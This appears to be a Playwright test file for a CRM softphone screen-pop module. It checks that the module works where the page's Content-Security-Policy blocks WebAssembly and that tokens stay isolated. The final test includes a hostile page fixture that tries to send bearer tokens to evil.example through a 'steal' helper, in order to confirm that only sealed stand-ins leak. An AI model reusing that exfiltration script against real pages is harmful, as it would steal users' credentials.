// The screen-pop module in the CRM page (issue 25): Genesys' page served under a
// Content-Security-Policy without 'wasm-unsafe-eval', so the module cannot compile in the
// softphone, and the CRM page's host adapter given `runtime`. The pops must be those of
// the module in the softphone, and no token may reach the CRM page.
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { test, expect } from '@playwright/test';
import {
  CRM, APPS, built, serve, openCrm, ready, call, json, account, pops, crmOAuth, crmApi, direct,
} from './softphone.mjs';

// What Chromium refuses WebAssembly under: scripts from the page itself and inline ones
// only. Nothing else is limited, so the direct route may still reach the CRM.
const NO_WASM = "script-src 'self' 'unsafe-inline'";
const MODULE = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../www/pkg/runtime/framesmith_runtime.wasm');

const lookups = (url, r) => {
  if (url.includes('page=2')) return json(r, { items: [account('B2', 'Bea')] });
  if (url.includes('0199')) return json(r, { items: [] });
  if (url.includes('0100')) return json(r, { items: [account('B1', 'Bob')], next: `${CRM}/api/v1/accounts?phone=x&page=2` });
  return json(r, { items: [account('A1', 'Ann')] });
};

// One match, none found, several across two pages, a repeated event, and a dial: what onPop
// got, what the client was asked, the counters, and the number dialled.
async function scenario(context, options) {
  const counts = await serve(context, built(), lookups, options);
  const { page, frame, warnings } = await openCrm(context);
  await ready(frame);
  await frame.evaluate((c) => window.fire('add', c), call('one', { ani: 'tel:+353 1 555 0123' }));
  await frame.evaluate((c) => window.fire('add', c), call('none', { ani: '+353 1 555 0199' }));
  await frame.evaluate((c) => { window.fire('add', c); window.fire('update', c); }, call('many'));
  const all = (await pops(page, 3)).sort((a, b) => a.interactionId.localeCompare(b.interactionId));
  const dialled = await page.evaluate(() => window.host.dial('01 555 0142', { recordId: 'A1' }));
  // The agent picks one of the several records: counted once, however often stats() is read.
  await page.evaluate(() => window.host.choose('many', 'B2'));
  await frame.evaluate(() => window.Framework.framesmith.stats());
  const stats = await frame.evaluate(() => window.Framework.framesmith.stats());
  const calls = (await frame.evaluate(() => window.calls)).filter((c) => c[0] !== 'getAuthToken');
  return { pops: all, calls, stats, dialled, lookups: counts.lookups, warnings };
}

test.describe('the module in the CRM page where Genesys\' page refuses WebAssembly', () => {
  test('the pops, client calls and counters are those of the module in the softphone', async ({ context, browser }) => {
    const here = await browser.newContext();
    const inSoftphone = await scenario(here, {});
    await here.close();
    const inPage = await scenario(context, { softphoneCsp: NO_WASM, page: { attachWith: 'runtime: "inline",' } });

    expect(inSoftphone.stats.runtimeIn).toBe('softphone');
    expect(inPage.stats.runtimeIn).toBe('crm-page');
    expect(inPage.stats.state).toBe('ready');
    expect(inPage.pops.map((p) => [p.interactionId, p.kind])).toEqual([['many', 'multiple'], ['none', 'none'], ['one', 'single']]);
    expect(inPage.pops).toEqual(inSoftphone.pops);
    expect(inPage.calls).toEqual(inSoftphone.calls);
    expect(inPage.dialled).toEqual({ number: '+35315550142' });
    expect(inPage.dialled).toEqual(inSoftphone.dialled);
    expect(inPage.lookups).toBe(inSoftphone.lookups);
    const counters = ({ lookups: l, single, multiple, none, failed, choices, route }) => ({ l, single, multiple, none, failed, choices, route });
    expect(counters(inPage.stats)).toEqual(counters(inSoftphone.stats));
    expect(counters(inPage.stats)).toMatchObject({ single: 2, multiple: 0, none: 1, choices: 1 });
    expect(inPage.warnings.filter((w) => w.includes('screen pop is off'))).toEqual([]);
  });

  test('the module from a URL the page gives, and one pop per call across two tabs', async ({ context }) => {
    await context.route(`${CRM}/framesmith-runtime.wasm`, (r) => r.fulfill({ contentType: 'application/wasm', body: fs.readFileSync(MODULE) }));
    const counts = await serve(context, built(), lookups, {
      softphoneCsp: NO_WASM, page: { attachWith: 'runtime: "/framesmith-runtime.wasm",' },
    });
    const a = await openCrm(context);
    const b = await openCrm(context);
    await ready(a.frame);
    await ready(b.frame);
    expect(await a.frame.evaluate(() => window.Framework.framesmith.stats().runtimeIn)).toBe('crm-page');
    await a.page.waitForTimeout(200); // the softphones greet each other
    await Promise.all([a, b].map((t) => t.frame.evaluate((c) => window.fire('add', c), call('shared', { ani: 'tel:+353 1 555 0123' }))));
    await expect.poll(async () => (await a.page.evaluate(() => window.pops.length)) +
      (await b.page.evaluate(() => window.pops.length))).toBe(1);
    await a.page.waitForTimeout(500);
    const both = [...await a.page.evaluate(() => window.pops), ...await b.page.evaluate(() => window.pops)];
    expect(both).toHaveLength(1);
    expect(both[0]).toMatchObject({ interactionId: 'shared', kind: 'single', url: `${CRM}/accounts/A1` });
    expect(counts.lookups).toBe(1);
  });

  test('direct route: the CRM token is used from the softphone and never reaches the CRM page', async ({ context }) => {
    const oauth = await crmOAuth(context, { lifetime: 2 });
    const seen = [];
    await serve(context, built(direct), crmApi(oauth, seen), {
      softphoneCsp: NO_WASM, page: { attachWith: 'runtime: "inline",', keepMessages: true },
    });
    const { page, frame } = await openCrm(context);
    await ready(frame);
    await frame.evaluate((c) => window.fire('add', c), call('d1'));
    await pops(page, 1);
    // The token lasts 2 s: the next call takes a new one with the refresh token.
    await page.waitForTimeout(2200);
    await frame.evaluate((c) => window.fire('add', c), call('d2', { ani: 'tel:+353 1 555 0107' }));
    const all = await pops(page, 2);
    expect(all.map((p) => [p.interactionId, p.kind, p.cause])).toEqual([['d1', 'single', undefined], ['d2', 'single', undefined]]);
    expect(seen).toEqual(['AT-1', 'AT-2']);
    expect(await frame.evaluate(() => window.Framework.framesmith.stats())).toMatchObject({ runtimeIn: 'crm-page', route: 'direct', single: 2 });
    const raw = (await page.evaluate(() => window.raw)).join('\n');
    // The module was handed the tokens, as stand-ins: the test sees what the page is sent.
    expect(raw).toContain('framesmith-sealed-');
    expect(raw).toContain('framesmith.runtimeCall');
    for (const secret of ['AT-1', 'AT-2', 'RT-1', 'RT-2', 'CODE-1']) expect(raw).not.toContain(secret);
  });

  test('without a runtime, or where the CRM page refuses WebAssembly too, pops are off and say why', async ({ context, browser }) => {
    const counts = await serve(context, built(), lookups, { softphoneCsp: NO_WASM });
    const { page, frame, warnings } = await openCrm(context);
    await frame.waitForFunction(() => window.Framework.framesmith.stats().state === 'off');
    await frame.evaluate((c) => window.fire('add', c), call('c1'));
    await expect.poll(() => page.evaluate(() => window.messages.filter((m) => m === 'interactionSubscription').length)).toBe(1);
    expect(warnings.filter((w) => w.includes('screen pop is off'))).toHaveLength(1);
    expect(warnings[0]).toContain('attach() was given no runtime');
    expect(await page.evaluate(() => window.pops)).toEqual([]);
    expect(counts.lookups).toBe(0);

    const strict = await browser.newContext();
    await serve(strict, built(), lookups, {
      softphoneCsp: NO_WASM, crmCsp: NO_WASM, page: { attachWith: 'runtime: "inline",' },
    });
    const t = await openCrm(strict);
    await t.frame.waitForFunction(() => window.Framework.framesmith.stats().state === 'off');
    expect(t.warnings.filter((w) => w.includes('screen pop is off'))).toHaveLength(1);
    expect(t.warnings[0]).toContain('the CRM page cannot run it either');
    await strict.close();
  });
});

// A CRM page that claims to run the module and answers as it likes: it asks for a CRM
// token, then for requests that would carry the tokens to another site.
const HOSTILE = `<!doctype html><title>CRM</title>
<iframe id="softphone" src="${APPS}/crm/index.html"></iframe>
<script>
const frame = document.getElementById('softphone');
window.pops = [];
const send = (type, data) => frame.contentWindow.postMessage(JSON.stringify({ type, data }), '${APPS}');
let n = 0;
const steal = (route, url, headers) => ({ do: 'fetch', fetch: ++n, route, request: { url, method: 'POST', headers, body: '{}' }, maxBytes: 1000, timeoutMs: 5000 });
window.addEventListener('message', (e) => {
  if (e.origin !== '${APPS}') return;
  const m = JSON.parse(e.data);
  const d = m.data;
  if (m.type === 'framesmith.runtimeWanted') {
    send('framesmith.runtimeReady', { session: d.session, configured: { route: 'direct', signIn: {
      authorize: 'https://evil.example/authorize', token: 'https://evil.example/token', clientId: 'x',
      redirectUri: 'https://evil.example/back', scope: '' } } });
  } else if (m.type === 'framesmith.runtimeCall') {
    let ok = {};
    if (d.op === 2) ok = { actions: [{ do: 'refresh' }] };
    if (d.op === 11) {
      window.given = d.request.token;
      ok = { actions: [
        steal('direct', 'https://evil.example/crm-token', [['Authorization', 'Bearer ' + d.request.token]]),
        steal('proxy', 'https://evil.example/genesys-token', [['Content-Type', 'application/json']]),
      ] };
    }
    send('framesmith.runtimeAnswer', { session: d.session, call: d.call, answer: { ok } });
  }
});
window.attached = true;
</script>`;

test('a CRM page that answers as it likes gets no token out of the softphone', async ({ context }) => {
  const oauth = await crmOAuth(context, { lifetime: 60 });
  const evil = [];
  await context.route('https://evil.example/**', (r) => {
    evil.push({ url: r.request().url(), method: r.request().method(), auth: r.request().headers().authorization });
    const cors = { 'access-control-allow-origin': APPS, 'access-control-allow-headers': 'authorization, content-type', 'access-control-allow-methods': 'POST' };
    return r.fulfill({ status: r.request().method() === 'OPTIONS' ? 204 : 200, headers: cors, body: '{}' });
  });
  await serve(context, built(direct), (url, r) => json(r, {}), { softphoneCsp: NO_WASM, page: { html: HOSTILE } });
  const { page, frame } = await openCrm(context);
  await ready(frame);
  await frame.evaluate((c) => window.fire('add', c), call('h1'));
  // The agent signs in where framework.js says (the CRM's own authorize page), not the page.
  await expect.poll(() => oauth.grants.length).toBe(1);
  expect(oauth.authorize).toHaveLength(1);
  await expect.poll(() => page.evaluate(() => window.given)).toMatch(/^framesmith-sealed-/);
  await expect.poll(() => evil.filter((e) => e.method === 'POST').length).toBe(1);
  await page.waitForTimeout(300);
  // The CRM token's request went out with the stand-in; the Genesys token's never left.
  expect(evil.filter((e) => e.method === 'POST').map((e) => [e.url, e.auth])).toEqual([
    ['https://evil.example/crm-token', `Bearer ${await page.evaluate(() => window.given)}`],
  ]);
  expect(JSON.stringify(evil)).not.toContain('AT-1');
  expect(JSON.stringify(evil)).not.toContain('genesys-token');
  expect((await frame.evaluate(() => window.calls)).filter((c) => c[0] === 'getAuthToken')).toHaveLength(1);
});
